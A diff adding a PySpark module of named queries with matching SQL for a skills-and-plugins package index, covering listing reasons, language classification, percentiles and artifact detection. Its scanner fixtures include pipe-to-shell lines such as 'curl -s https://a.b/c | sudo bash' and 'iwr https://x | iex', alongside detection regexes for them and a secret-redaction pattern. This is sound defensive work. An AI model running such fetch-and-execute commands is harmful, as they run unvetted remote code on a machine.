@@ -1,11 +1,440 @@
-"""Queries by name, each with its SQL where there is one."""
+"""Queries by name over the supplied tables, and their SQL where SQL can say them.
+
+The tables stand in for the index: documents are packages and their source the repository, orders are
+jobs and versions, line items and events are attempts, pages and inline rows are artifact bodies.
+"""
 
 from __future__ import annotations
 
+from collections.abc import Callable
+
+from pyspark.sql import DataFrame, SparkSession, Window
+from pyspark.sql import functions as F
+
+from tallyforge.functions import text as T
+from tallyforge.operators import listing, search, state, trees
+
+Query = Callable[[SparkSession, str], DataFrame]
+_QUERIES: dict[str, Query] = {}
+_SQL: dict[str, str] = {}
+
+
+def query(sql: str | None = None) -> Callable[[Query], Query]:
+    def add(f: Query) -> Query:
+        _QUERIES[f.__name__] = f
+        if sql:
+            _SQL[f.__name__] = sql
+        return f
+
+    return add
+
+
+def queries() -> dict[str, Query]:
+    return dict(_QUERIES)
+
+
+def oracle_sql() -> dict[str, str]:
+    return dict(_SQL)
+
+
+def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
+    return spark.read.parquet(f"{sf_dir}/{name}.parquet")
+
+
+def packages(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """documents as packages."""
+    repo = F.substring("source", 4, 9).cast("bigint")
+    return table(spark, sf_dir, "documents").select(
+        F.col("doc_id").alias("id"),
+        F.col("source").alias("repository"),
+        repo.alias("repository_id"),
+        F.when(F.col("lang") == "en", "skill").when(F.col("lang") == "fr", "command").when(F.col("lang") == "de", "agent").otherwise("plugin").alias("type"),
+        F.substring("text", 1, 2).alias("name"),
+        F.lit(None).cast("string").alias("parent_path"),
+        F.substring("text", 1, 160).alias("summary"),
+        T.writing_system(F.substring("text", 1, 160)).alias("language"),
+        F.concat(F.when(F.col("doc_id") % 3 == 0, ".x/a/").otherwise("b/"), F.col("doc_id").cast("string")).alias("source_path"),
+        (repo * 7 % 50).alias("stars"),
+        (repo % 9 == 4).alias("is_fork"),
+        F.when(F.col("n_chars") < 100, "failed").otherwise("ok").alias("parse_status"),
+        T.content_hash(F.col("text")).alias("content_hash"),
+        F.when(F.col("doc_id") % 17 == 0, F.lit("2024-01-01").cast("timestamp")).alias("delisted_at"),
+        ((F.col("lang") == "es") & (F.col("n_chars") % 5 == 0)).alias("shape_only"),
+    )
+
+
+def _class_sql(s: str) -> str:
+    n = lambda r: f"(length({s}) - length(regexp_replace({s}, '[{r}]+', '', 'g')))"
+    cjk = T.HAN + T.KANA + T.HANGUL
+    latin = T.LATIN.replace("'", "''")
+    sentence = f"([{latin}][{latin}0-9''._/-]*[,;:!?\"()]*\\s+){{5}}[{latin}]"
+    either = f"case when {n(T.LATIN)} >= {n(T.OTHER)} then 'latin' else 'other' end"
+    return f"""case when {s} is null or trim({s}) = '' then null
+      when not regexp_matches({s}, '[{cjk}]') then case when not regexp_matches({s}, '[{T.OTHER}]') then case when regexp_matches({s}, '[{T.LATIN}]') then 'latin' else 'unknown' end else {either} end
+      when {n(cjk)} * 10 < {n(cjk)} + {n(T.LATIN)} + {n(T.OTHER)} then {either}
+      when regexp_matches({s}, '{sentence}') then 'mixed'
+      when {n(T.HANGUL)} * 2 >= {n(cjk)} then 'ko'
+      when {n(T.KANA)} * 10 >= {n(cjk)} then 'ja'
+      when {n(cjk)} < 4 then 'unknown' else 'zh' end"""
+
+
+_PACKAGES = f"""packages as (select doc_id as id, source as repository, cast(substr(source, 4) as bigint) as repository_id,
+  case lang when 'en' then 'skill' when 'fr' then 'command' when 'de' then 'agent' else 'plugin' end as type,
+  substr(text, 1, 2) as name, cast(null as varchar) as parent_path, substr(text, 1, 160) as summary,
+  {_class_sql("substr(text, 1, 160)")} as language,
+  (case when doc_id % 3 = 0 then '.x/a/' else 'b/' end) || doc_id as source_path,
+  cast(substr(source, 4) as bigint) * 7 % 50 as stars, cast(substr(source, 4) as bigint) % 9 = 4 as is_fork,
+  case when n_chars < 100 then 'failed' else 'ok' end as parse_status,
+  sha256(replace(text, chr(13) || chr(10), chr(10))) as content_hash,
+  case when doc_id % 17 = 0 then timestamp '2024-01-01' end as delisted_at,
+  (lang = 'es' and n_chars % 5 = 0) as shape_only from documents)"""
+_REASONS = f"""with {_PACKAGES},
+ranked as (select *, case when regexp_matches(source_path, '(^|/)\\.[^/]+/') then 1 else 0 end as dotted, length(source_path) - length(replace(source_path, '/', '')) as depth from packages),
+varied as (select p.*, p.type in ('skill', 'command', 'agent') and exists (select 1 from ranked o where o.repository_id = p.repository_id and o.type = p.type and lower(o.name) = lower(p.name)
+  and o.parent_path is not distinct from p.parent_path and o.language is not distinct from p.language and o.delisted_at is null and o.parse_status is distinct from 'failed'
+  and (o.dotted, o.depth, length(o.source_path), o.id) < (p.dotted, p.depth, length(p.source_path), p.id)) as variant from ranked p),
+reasons as (select p.*, case when p.is_fork then 'fork' when p.parse_status = 'failed' then 'unparsed'
+  when not p.shape_only and p.content_hash is not null and exists (select 1 from varied o where o.content_hash = p.content_hash and o.delisted_at is null and not o.is_fork
+    and o.parse_status is distinct from 'failed' and not o.shape_only and not o.variant and (o.stars > p.stars or (o.stars = p.stars and o.id < p.id))) then 'duplicate'
+  when p.variant then 'variant' end as reason from varied p)"""
+
+
+@query(_REASONS + " select coalesce(language, 'none') as class, count(*) as total, count(*) filter (where reason is null) as listed from reasons where delisted_at is null group by 1")
+def listed_by_class(spark, sf_dir):
+    rows = listing.not_listed_because(packages(spark, sf_dir)).where("delisted_at is null")
+    return rows.groupBy(F.coalesce("language", F.lit("none")).alias("class")).agg(F.count("*").alias("total"), F.count_if(F.col("reason").isNull()).alias("listed"))
+
+
+@query(_REASONS + " select id, coalesce(reason, 'listed') as reason from reasons")
+def listing_reason(spark, sf_dir):
+    return listing.not_listed_because(packages(spark, sf_dir)).select("id", F.coalesce("reason", F.lit("listed")).alias("reason"))
+
+
+@query(_REASONS + " select type, count(*) filter (where reason is null) as visible, count(*) filter (where reason is not null) as hidden from reasons where delisted_at is null group by 1 having count(*) filter (where reason is null) > 0")
+def visible_by_type(spark, sf_dir):
+    rows = listing.not_listed_because(packages(spark, sf_dir)).where("delisted_at is null")
+    return rows.groupBy("type").agg(F.count_if(F.col("reason").isNull()).alias("visible"), F.count_if(F.col("reason").isNotNull()).alias("hidden")).where("visible > 0")
+
+
+@query(_REASONS + " select id, name, stars, count(*) over () as total from reasons where delisted_at is null and reason is null order by stars desc, id desc limit 25 offset 25")
+def list_packages_page(spark, sf_dir):
+    rows = listing.not_listed_because(packages(spark, sf_dir)).where("delisted_at is null and reason is null").select("id", "name", "stars")
+    return listing.with_total(rows, [F.desc("stars"), F.desc("id")], 25, 25)
+
+
+@query("select doc_id, sha256(replace(text, chr(13) || chr(10), chr(10))) as content_hash from documents")
+def content_identity(spark, sf_dir):
+    return table(spark, sf_dir, "documents").select("doc_id", T.content_hash(F.col("text")).alias("content_hash"))
+
+
+_CASES = [
+    (1, "A plain English description"), (2, None), (3, "   "), (4, "12345 !!"), (5, "一个用于代码审查的技能"), (6, "コードレビューのためのスキル"), (7, "코드 검토를 위한 기술"), (8, "代码"),
+    (9, "Описание на русском"), (10, "This is a long enough English sentence with 中文字符 in it"), (11, "中文 with some English words here and there for all of us 描述文字描述文字"), (12, "ελληνικά abc"),
+    (13, "GPT-6 技能用于 tasks.md 编写计划文件"), (14, "日本語の説明文です、はい"), (15, "한국어 中文中文中文"), (16, "Ünïcödé tëxt"), (17, "বাংলা ভাষা"), (18, "克里斯・约翰逊的技能"),
+]
+_VALUES = ", ".join(f"({i}, {'null' if t is None else chr(39) + t + chr(39)})" for i, t in _CASES)
+
+
+@query(f"select id, {_class_sql('t')} as class, (t is null or not regexp_matches(t, '[{T.HAN}{T.KANA}{T.HANGUL}]') or coalesce({_class_sql('t')}, '') not in ('zh', 'ko')) as visible from (values {_VALUES}) v(id, t)")
+def writing_systems(spark, sf_dir):
+    return spark.createDataFrame(_CASES, "id int, t string").select("id", T.writing_system(F.col("t")).alias("class"), T.visible_language(F.col("t"), ["zh", "ko"]).alias("visible"))
+
+
+@query("select o_custkey, o_orderkey, o_orderdate, o_totalprice from (select *, row_number() over (partition by o_custkey order by o_orderdate desc, o_orderkey desc) n from orders) where n = 1")
+def latest_version(spark, sf_dir):
+    rows = table(spark, sf_dir, "orders").select("o_custkey", "o_orderkey", "o_orderdate", "o_totalprice")
+    return listing.latest(rows, "o_custkey", "o_orderdate", "o_orderkey").select("o_custkey", "o_orderkey", "o_orderdate", "o_totalprice")
+
+
+@query("select o_custkey, case when count(*) > 1 then max(o_orderdate) end as changed_at from orders group by 1")
+def content_changed_at(spark, sf_dir):
+    return listing.content_changed(table(spark, sf_dir, "orders"), "o_custkey", "o_orderdate")
+
+
+@query("select o_orderstatus, count(*) as n, count(*) filter (where o_totalprice > 150000) as due, count(*) filter (where o_orderpriority = '1-URGENT') as urgent from orders group by 1")
+def queue_by_status(spark, sf_dir):
+    return table(spark, sf_dir, "orders").groupBy("o_orderstatus").agg(F.count("*").alias("n"), F.count_if(F.col("o_totalprice") > 150000).alias("due"), F.count_if(F.col("o_orderpriority") == "1-URGENT").alias("urgent"))
+
+
+@query("select l_returnflag, l_linestatus, count(*) as attempts, count(*) filter (where l_discount > 0.05) as truncated, round(sum(l_quantity), 2) as artifacts_new, cast(sum(l_linenumber) as bigint) as artifacts_updated from lineitem group by 1, 2")
+def attempts_by_outcome(spark, sf_dir):
+    return table(spark, sf_dir, "lineitem").groupBy("l_returnflag", "l_linestatus").agg(F.count("*").alias("attempts"), F.count_if(F.col("l_discount") > 0.05).alias("truncated"), F.round(F.sum("l_quantity"), 2).alias("artifacts_new"), F.sum("l_linenumber").alias("artifacts_updated"))
+
+
+@query("select event_type, round(quantile_cont(value, 0.5), 6) as p50, round(quantile_cont(value, 0.95), 6) as p95, count(*) as n from events group by 1")
+def duration_percentiles(spark, sf_dir):
+    p = lambda q: F.round(F.expr(f"percentile_cont({q}) within group (order by value)"), 6)
+    return table(spark, sf_dir, "events").groupBy("event_type").agg(p(0.5).alias("p50"), p(0.95).alias("p95"), F.count("*").alias("n"))
+
+
+@query("""with s as (select event_type, value, row_number() over (partition by event_type order by value) - 1 as i, count(*) over (partition by event_type) as n from events where value is not null)
+select event_type, max(case when i = least(n - 1, cast(floor(0.5 * n) as bigint)) then value end) as p50, max(case when i = least(n - 1, cast(floor(0.95 * n) as bigint)) then value end) as p95, max(value) as longest from s group by 1""")
+def drain_percentiles(spark, sf_dir):
+    """Index percentiles, floor(p n): no interpolation. The rank is found by a sort within each type."""
+    rows = table(spark, sf_dir, "events").where("value is not null")
+    n = rows.groupBy("event_type").agg(F.count("*").alias("n"))
+    placed = rows.withColumn("i", F.row_number().over(Window.partitionBy("event_type").orderBy("value")) - 1).join(n, "event_type")
+    at = lambda p: F.max(F.when(F.col("i") == F.least(F.col("n") - 1, F.floor(F.lit(p) * F.col("n"))), F.col("value")))
+    return placed.groupBy("event_type").agg(at(0.5).alias("p50"), at(0.95).alias("p95"), F.max("value").alias("longest"))
+
+
+@query("""with v as (select o_custkey, o_orderdate, min(o_orderdate) over (partition by o_custkey) as first_at from orders)
+select count(distinct o_custkey) filter (where first_at >= timestamp '1996-01-01') as added, count(distinct o_custkey) filter (where o_orderdate >= timestamp '1996-01-01' and o_orderdate > first_at) as changed from v""")
+def added_and_changed(spark, sf_dir):
+    since = F.lit("1996-01-01").cast("timestamp")
+    per = table(spark, sf_dir, "orders").groupBy("o_custkey").agg(F.min("o_orderdate").alias("a"), F.max("o_orderdate").alias("b"))
+    return per.agg(F.count_if(F.col("a") >= since).alias("added"), F.count_if((F.col("b") >= since) & (F.col("b") > F.col("a"))).alias("changed"))
+
+
+@query("select sha256(text) as label, count(distinct source) as n from documents group by 1 having count(distinct source) > 1")
+def same_content_other_repositories(spark, sf_dir):
+    return table(spark, sf_dir, "documents").groupBy(F.sha2(F.col("text").cast("binary"), 256).alias("label")).agg(F.countDistinct("source").alias("n")).where("n > 1")
+
+
+@query("""select case when ts is null then 'never' when ts > timestamp '2024-01-30' then '1 day' when ts > timestamp '2024-01-24' then '7 days' when ts > timestamp '2024-01-01' then '30 days' else 'older' end as label, count(*) as n from events group by 1""")
+def read_age(spark, sf_dir):
+    t = lambda s: F.lit(s).cast("timestamp")
+    age = F.when(F.col("ts").isNull(), "never").when(F.col("ts") > t("2024-01-30"), "1 day").when(F.col("ts") > t("2024-01-24"), "7 days").when(F.col("ts") > t("2024-01-01"), "30 days").otherwise("older")
+    return table(spark, sf_dir, "events").groupBy(age.alias("label")).agg(F.count("*").alias("n"))
+
+
+@query("""select 'nation' as tab, count(*) as n, md5(string_agg(n_nationkey || ':' || n_name, ',' order by n_nationkey)) as fingerprint from nation
+union all select 'region', count(*), md5(string_agg(r_regionkey || ':' || r_name, ',' order by r_regionkey)) from region""")
+def table_fingerprints(spark, sf_dir):
+    def one(name, key, label):
+        line = F.concat_ws(":", F.col(key).cast("string"), label)
+        ordered = F.array_join(F.transform(F.array_sort(F.collect_list(F.struct(F.col(key).alias("k"), line.alias("v")))), lambda x: x["v"]), ",")
+        return table(spark, sf_dir, name).agg(F.lit(name).alias("tab"), F.count("*").alias("n"), F.md5(ordered).alias("fingerprint"))
+
+    return one("nation", "n_nationkey", "n_name").unionByName(one("region", "r_regionkey", "r_name"))
+
+
+@query("select c_custkey, c_name from customer c where not exists (select 1 from orders o where o.o_custkey = c.c_custkey) and c_nationkey not in (1, 2)")
+def seeds_without_jobs(spark, sf_dir):
+    denied = spark.createDataFrame([(1,), (2,)], "c_nationkey int")
+    return table(spark, sf_dir, "customer").join(table(spark, sf_dir, "orders").select(F.col("o_custkey").alias("c_custkey")), "c_custkey", "left_anti").join(F.broadcast(denied), "c_nationkey", "left_anti").select("c_custkey", "c_name")
+
+
+@query("""select n_name, count(*) as findings from lineitem join orders on l_orderkey = o_orderkey join customer on o_custkey = c_custkey join nation on c_nationkey = n_nationkey
+where l_shipdate < o_orderdate + interval 30 day group by 1""")
+def finding_mismatch(spark, sf_dir):
+    t = lambda n: table(spark, sf_dir, n)
+    rows = t("lineitem").join(t("orders"), F.col("l_orderkey") == F.col("o_orderkey")).where(F.col("l_shipdate") < F.col("o_orderdate") + F.expr("interval 30 days"))
+    return rows.join(t("customer"), F.col("o_custkey") == F.col("c_custkey")).join(t("nation"), F.col("c_nationkey") == F.col("n_nationkey")).groupBy("n_name").agg(F.count("*").alias("findings"))
+
+
+@query("select r_name, count(*) as repositories, count(*) filter (where c_acctbal < 0) as failing from region join nation on n_regionkey = r_regionkey join customer on c_nationkey = n_nationkey group by 1")
+def repositories_by_region(spark, sf_dir):
+    t = lambda n: table(spark, sf_dir, n)
+    return t("customer").join(t("nation"), F.col("c_nationkey") == F.col("n_nationkey")).join(t("region"), F.col("n_regionkey") == F.col("r_regionkey")).groupBy("r_name").agg(F.count("*").alias("repositories"), F.count_if(F.col("c_acctbal") < 0).alias("failing"))
+
+
+@query("select event_type, max(cast(json_extract_string(props, '$.k') as bigint)) as newest, count(*) filter (where json_extract_string(props, '$.k') is distinct from '7') as others from events group by 1")
+def json_facts(spark, sf_dir):
+    k = F.try_variant_get(F.try_parse_json("props"), "$.k", "string")
+    return table(spark, sf_dir, "events").withColumn("k", k).groupBy("event_type").agg(F.max(F.col("k").try_cast("bigint")).alias("newest"), F.count_if(~F.col("k").eqNullSafe(F.lit("7"))).alias("others"))
+
+
+@query("select part_key, visible from (select p_partkey as part_key, (p_name is null or not contains(lower(p_name), 'a')) and starts_with(lower(p_brand), 'brand#1') as visible from part)")
+def scoped_names(spark, sf_dir):
+    return table(spark, sf_dir, "part").select(F.col("p_partkey").alias("part_key"), ((F.col("p_name").isNull() | ~F.lower("p_name").contains("a")) & F.lower("p_brand").startswith("brand#1")).alias("visible"))
+
+
+@query("""select p_partkey from part p where p_type is not null and not exists (select 1 from lineitem l where l.l_partkey = p.p_partkey and l.l_returnflag = 'R')""")
+def capability_absence(spark, sf_dir):
+    found = table(spark, sf_dir, "lineitem").where("l_returnflag = 'R'").select(F.col("l_partkey").alias("p_partkey"))
+    return table(spark, sf_dir, "part").where("p_type is not null").join(found, "p_partkey", "left_anti").select("p_partkey")
+
+
+@query("select s_suppkey, case when s_suppkey % 7 = 0 then 'fork' when s_suppkey % 5 = 0 then 'archived' when s_acctbal < 5000 then 'below_floor' end as rejected from supplier")
+def discovery_rejection(spark, sf_dir):
+    return table(spark, sf_dir, "supplier").select("s_suppkey", F.when(F.col("s_suppkey") % 7 == 0, "fork").when(F.col("s_suppkey") % 5 == 0, "archived").when(F.col("s_acctbal") < 5000, "below_floor").alias("rejected"))
+
+
+@query("""with recursive r(lo) as (select 5 union all select lo * 2 from r where lo * 2 <= 1024)
+select lo as low, case when lo * 2 <= 1024 then lo * 2 - 1 end as high, 'stars:' || case when lo * 2 <= 1024 then lo || '..' || (lo * 2 - 1) else '>=' || lo end as q from r""")
+def shard_ladder(spark, sf_dir):
+    from tallyforge.sources import shards
+
+    return shards.ladder(spark, 5)
+
+
+@query("""select a, b, case when b is null and a < 1000000 then a * 2 when b is not null and a < b then cast(floor((a + b) / 2) as bigint) + 1 end as upper_low,
+case when b is null and a < 1000000 then a * 2 - 1 when b is not null and a < b then cast(floor((a + b) / 2) as bigint) end as lower_high from (values (5::bigint, 9::bigint), (7, 7), (1024, null), (2000000, null), (10, 11)) v(a, b)""")
+def shard_split(spark, sf_dir):
+    from tallyforge.sources import shards
+
+    return shards.split(spark.createDataFrame([(5, 9), (7, 7), (1024, None), (2000000, None), (10, 11)], "a bigint, b bigint"))
+
+
+@query("select l_linenumber as attempts, cast(least(60 * pow(2, l_linenumber - 1), 900) as bigint) as wait_s, count(*) as n from lineitem group by 1, 2")
+def retry_backoff(spark, sf_dir):
+    return table(spark, sf_dir, "lineitem").groupBy(F.col("l_linenumber").alias("attempts"), state.backoff_s(F.col("l_linenumber")).alias("wait_s")).agg(F.count("*").alias("n"))
+
+
+@query("select o_orderkey, o_custkey from orders where o_orderstatus = 'O' and o_orderdate <= timestamp '1998-01-01' order by o_orderdate, o_orderkey limit 20")
+def claim_due(spark, sf_dir):
+    jobs = table(spark, sf_dir, "orders").select(F.col("o_orderkey").alias("id"), F.col("o_custkey").alias("target"), F.when(F.col("o_orderstatus") == "O", "queued").otherwise("done").alias("status"), F.col("o_orderdate").alias("next_attempt_at"), F.lit(0).alias("attempts"))
+    return state.claim(jobs, F.lit("1998-01-01").cast("timestamp"), 20).select(F.col("id").alias("o_orderkey"), F.col("target").alias("o_custkey"))
+
+
+@query("""select c_custkey as id from customer where c_nationkey % 3 <> 0 and c_nationkey % 4 <> 1 and (c_acctbal < 0 or (epoch(timestamp '2024-02-01') - c_custkey * 600) < epoch(timestamp '2024-02-01') - (86400 + 86400 * (pow(2, least(c_nationkey, 4)) - 1)))
+order by case when c_acctbal < 0 then 0 else 1 end, c_custkey * case when c_acctbal < 0 then 1 else -1 end, c_custkey limit 40""")
+def refresh_due(spark, sf_dir):
+    now = F.lit("2024-02-01").cast("timestamp")
+    rows = table(spark, sf_dir, "customer").select(
+        F.col("c_custkey").alias("id"), F.when(F.col("c_acctbal") >= 0, F.timestamp_seconds(F.unix_timestamp(now) - F.col("c_custkey") * 600)).alias("checked_at"), F.lit(None).cast("timestamp").alias("scanned_at"),
+        F.col("c_nationkey").alias("check_failures"), (F.col("c_nationkey") % 3 == 0).alias("is_fork"), (F.col("c_nationkey") % 4 == 1).alias("is_archived"))
+    return state.refresh_due(rows, now, 86400, 40).select("id")
+
+
+@query("""select coalesce(n.id, o.id) as id, case when n.id is not null then n.v else o.v end as v, coalesce(o.created, n.created) as created
+from (select p_partkey as id, p_name as v, 1 as created from part where p_partkey % 2 = 0) o full join (select p_partkey as id, p_brand as v, 2 as created from part where p_partkey % 3 = 0) n on o.id = n.id""")
+def upsert_packages(spark, sf_dir):
+    part = table(spark, sf_dir, "part")
+    old = part.where("p_partkey % 2 = 0").select(F.col("p_partkey").alias("id"), F.col("p_name").alias("v"), F.lit(1).alias("created"))
+    new = part.where("p_partkey % 3 = 0").select(F.col("p_partkey").alias("id"), F.col("p_brand").alias("v"), F.lit(2).alias("created"))
+    return state.upsert(old, new, ["id"], kept=["created"])
+
+
+@query("""with o as (select p_partkey as id, p_brand as v from part where p_partkey % 2 = 0), n as (select p_partkey as id, case when p_partkey % 5 = 0 then 'x' else p_brand end as v from part where p_partkey % 3 = 0)
+select count(*) filter (where o.id is null) as n_new, count(*) filter (where o.id is not null and n.id is not null and o.v <> n.v) as n_updated, count(*) filter (where o.v = n.v) as n_unchanged, count(*) filter (where n.id is null) as n_removed from o full join n on o.id = n.id""")
+def scan_counters(spark, sf_dir):
+    part = table(spark, sf_dir, "part")
+    old = part.where("p_partkey % 2 = 0").select(F.col("p_partkey").alias("id"), F.col("p_brand").alias("v"))
+    new = part.where("p_partkey % 3 = 0").select(F.col("p_partkey").alias("id"), F.when(F.col("p_partkey") % 5 == 0, "x").otherwise(F.col("p_brand")).alias("v"))
+    return state.diff_counts(old, new, "id", "v")
+
+
+@query("select p_partkey as id, p_type as type, case when p_partkey % 3 <> 0 and p_type <> 'STANDARD' then timestamp '2024-01-01' end as delisted_at from part")
+def delist_absent(spark, sf_dir):
+    rows = table(spark, sf_dir, "part").select(F.col("p_partkey").alias("id"), F.col("p_type").alias("type"), F.lit(None).cast("timestamp").alias("delisted_at"))
+    return state.delist(rows, rows.where("id % 3 = 0"), ["id"], F.lit("2024-01-01").cast("timestamp"), undetected=["STANDARD"])
+
+
+@query("select user_id, arg_max(event_type, event_id) as event_type, max(event_id) as event_id from events group by 1")
+def last_wins_per_user(spark, sf_dir):
+    return state.last_wins(table(spark, sf_dir, "events").select("user_id", "event_type", "event_id"), ["user_id"], "event_id").select("user_id", "event_type", "event_id")
+
+
+_RUNS = "(values (1, true, 2.0, 2.0, 'COMPLETED'), (2, false, 2.0, 30.0, null), (3, null, null, null, null), (4, true, 100.0, 100.0, 'COMPLETED'), (5, true, 1.0, 1.0, 'PARTIAL_CAP'), (6, true, 1.0, null, 'COMPLETED')) v(id, last_ok, run_age_h, success_age_h, status)"
+
+
+@query(f"select id, case when last_ok is null and success_age_h is null then 'UNKNOWN' when last_ok = false or coalesce(run_age_h, 0) > 48 or success_age_h is null or success_age_h > 48 then 'DEGRADED' when coalesce(status, 'COMPLETED') <> 'COMPLETED' then 'PARTIAL' else 'OK' end as state from {_RUNS}")
+def sync_health(spark, sf_dir):
+    rows = [(1, True, 2.0, 2.0, "COMPLETED"), (2, False, 2.0, 30.0, None), (3, None, None, None, None), (4, True, 100.0, 100.0, "COMPLETED"), (5, True, 1.0, 1.0, "PARTIAL_CAP"), (6, True, 1.0, None, "COMPLETED")]
+    return state.health(spark.createDataFrame(rows, "id int, last_ok boolean, run_age_h double, success_age_h double, status string"), 48.0).select("id", "state")
+
+
+@query("select doc_id, cast(unnest(range(1, len(string_split(text, chr(10))) + 1)) as int) as line, length(left(unnest(string_split(text, chr(10))), 2000)) as width from documents")
+def scan_lines(spark, sf_dir):
+    return table(spark, sf_dir, "documents").select("doc_id", F.posexplode(T.lines(F.col("text"))).alias("line", "t")).select("doc_id", (F.col("line") + 1).alias("line"), F.length("t").cast("long").alias("width"))
+
+
+_BODIES = [(1, "run npm install x && npx y"), (2, "pip install foo; uvx bar"), (3, "énpx no, mynpx no, npx-tool yes"), (4, "curl -s https://a.b/c | sudo bash"), (5, "wget x && sh run"), (6, "iwr https://x | iex"), (7, "see https://github.com/Owner/Repo.git, and https://github.com/features/x."), (8, "https://github.com/a/b/tree/main (https://example.com/q)"), (9, "nothing")]
+_BODY_VALUES = ", ".join(f"({i}, '{t}')" for i, t in _BODIES)
+_B = r"\b"
+
+
+@query(f"select id, unnest(regexp_extract_all(t, '{_B}({'|'.join(T.INSTALLERS)}){_B}', 1)) as signal from (values {_BODY_VALUES}) v(id, t)")
+def install_findings(spark, sf_dir):
+    return spark.createDataFrame(_BODIES, "id int, t string").select("id", F.explode(T.install_directives(F.col("t"))).alias("signal"))
+
+
+@query(f"""select id, 'curl | sh' as signal from (values {_BODY_VALUES}) v(id, t) where regexp_matches(t, '{_B}curl{_B}[^|]*\\|\\s*(sudo\\s+)?(sh|bash){_B}')
+union all select id, 'wget && sh' from (values {_BODY_VALUES}) v(id, t) where regexp_matches(t, '{_B}wget{_B}[^&]*&&\\s*(sh|bash){_B}')
+union all select id, 'iwr | iex' from (values {_BODY_VALUES}) v(id, t) where regexp_matches(t, '(?i){_B}(iwr|Invoke-WebRequest){_B}[^|]*\\|\\s*iex{_B}')""")
+def remote_execution_findings(spark, sf_dir):
+    hits = F.array_compact(F.array(*(F.when(F.col("t").rlike(p), F.lit(s)) for s, p in T.REMOTE_EXECUTION.items())))
+    return spark.createDataFrame(_BODIES, "id int, t string").select("id", F.explode(hits).alias("signal"))
+
+
+@query("select 7 as id, 'owner/repo' as repo union all select 8, 'a/b'")
+def repository_links(spark, sf_dir):
+    found = spark.createDataFrame(_BODIES, "id int, t string").select("id", F.explode(T.links(F.col("t"))).alias("url"))
+    return found.select("id", T.repository_of(F.col("url")).alias("repo")).where("repo is not null").distinct()
+
+
+@query("select page_id, len(regexp_extract_all(html, '<!--[^>]*-->')) as comments, len(regexp_extract_all(html, 'https?://[^\\s<>()\\[\\]\"''`]+')) as urls from pages")
+def page_findings(spark, sf_dir):
+    return table(spark, sf_dir, "pages").select("page_id", F.size(F.regexp_extract_all("html", F.lit("<!--[^>]*-->"), F.lit(0))).cast("long").alias("comments"), F.size(F.regexp_extract_all("html", F.lit(r"https?://[^\s<>()\[\]\"'`]+"), F.lit(0))).cast("long").alias("urls"))
+
+
+@query("""select doc_id, sha256(regexp_replace(text, '(?i)((?:password|passwd|secret|token|api_?key)["'']?\\x20*[:=]\\x20*["'']?)[A-Za-z0-9+/_.=-]+', '\\1[redacted]', 'g')) as redacted from documents""")
+def redacted_documents(spark, sf_dir):
+    return table(spark, sf_dir, "documents").select("doc_id", F.sha2(T.redact_assignments(F.col("text")).cast("binary"), 256).alias("redacted"))
+
+
+@query("""select o_orderkey, case when o_orderkey < 1000 then cast(o_orderkey as varchar) when o_orderkey < 100000 then cast(o_orderkey // 1000 as varchar) || '.' || cast(o_orderkey // 100 % 10 as varchar) || 'k' else cast(o_orderkey // 1000 as varchar) || 'k' end as stars,
+cast(least(16, 1 + floor(log2(o_orderkey))) as int) as plates from orders where o_orderkey > 0""")
+def counts_for_display(spark, sf_dir):
+    return table(spark, sf_dir, "orders").where("o_orderkey > 0").select("o_orderkey", T.compact_stars(F.col("o_orderkey")).alias("stars"), T.plates(F.col("o_orderkey")).alias("plates"))
+
+
+@query("""select doc_id, case when length(text) > 200 then left(text, 199) || '…' else text end as meta, case when length(text) > 500 then regexp_replace(left(text, 500), '\\s+\\S*$', '') || ' … (' || length(text) || ' characters, ' || left(sha256(text), 8) || ')' else text end as summary from documents""")
+def shortened(spark, sf_dir):
+    return table(spark, sf_dir, "documents").select("doc_id", T.capped(F.col("text"), 200).alias("meta"), T.cap_summary(F.col("text")).alias("summary"))
+
+
+_TREE = [("r1", p) for p in ("SKILL.md", "skills/a/SKILL.md", "skills/a/run.py", "plug/commands/x.md", "plug/commands/README.md", "plug/agents/y.md", "plug/skills/z/SKILL.md", "plug/skills/z/b/c.txt", ".claude/agents/q.md", "hooks/hooks.json", ".mcp.json", "own/.claude-plugin/plugin.json", "own/skills/k/SKILL.md", "own/hooks/hooks.json", "docs/readme.md")]
+
+
+@query("""select 'r1' as repo, unnest(['SKILL.md', 'skills/a/SKILL.md', 'plug/skills/z/SKILL.md', 'own/skills/k/SKILL.md', 'plug/commands/x.md', '.claude/agents/q.md', 'own/.claude-plugin/plugin.json', '.mcp.json', 'hooks/hooks.json', 'own/hooks/hooks.json']) as path,
+unnest(['skill', 'skill', 'skill', 'skill', 'command', 'agent', 'plugin', 'mcp_server', 'hook', 'hook']) as type""")
+def detected_artifacts(spark, sf_dir):
+    return trees.detected(spark.createDataFrame(_TREE, "repo string, path string"))
+
+
+@query("select 'r1' as repo, 'plug' as root, 'agents,commands,skills' as components")
+def plugin_roots(spark, sf_dir):
+    return trees.shape_roots(spark.createDataFrame(_TREE, "repo string, path string")).withColumn("components", F.array_join("components", ","))
+
+
+@query("select unnest(['skills/a', 'plug/skills/z', 'plug', 'own']) as root, cast(unnest([2, 2, 5, 3]) as bigint) as n_files, cast(unnest([1, 0, 0, 0]) as bigint) as n_scripts")
+def file_inventory(spark, sf_dir):
+    tree = spark.createDataFrame(_TREE, "repo string, path string")
+    roots = spark.createDataFrame([("r1", r) for r in ("skills/a", "plug/skills/z", "plug", "own")], "repo string, root string")
+    return trees.inventory(roots, tree).select("root", "n_files", "n_scripts")
+
+
+@query("select unnest(['plug/skills/z/SKILL.md', 'plug/commands/x.md', 'own/skills/k/SKILL.md', 'SKILL.md', 'skills/a/SKILL.md']) as path, unnest(['plug', 'plug', 'own', null, null]) as parent")
+def containment(spark, sf_dir):
+    paths = spark.createDataFrame([("r1", p) for p in ("plug/skills/z/SKILL.md", "plug/commands/x.md", "own/skills/k/SKILL.md", "SKILL.md", "skills/a/SKILL.md")], "repo string, path string")
+    return listing.nearest_container(paths, spark.createDataFrame([("r1", "plug"), ("r1", "own"), ("r1", "ow")], "repo string, root string")).select("path", "parent")
+
+
+@query("""with r as (select l_orderkey as repo, l_returnflag as detector, row_number() over (partition by l_orderkey, l_returnflag order by l_linenumber) as turn, l_linenumber from lineitem)
+select repo, detector, l_linenumber, place from (select *, row_number() over (partition by repo order by turn, detector) as place from r) where place <= 3""")
+def round_robin_needs(spark, sf_dir):
+    rows = table(spark, sf_dir, "lineitem").select(F.col("l_orderkey").alias("repo"), F.col("l_returnflag").alias("detector"), F.col("l_linenumber").alias("position"))
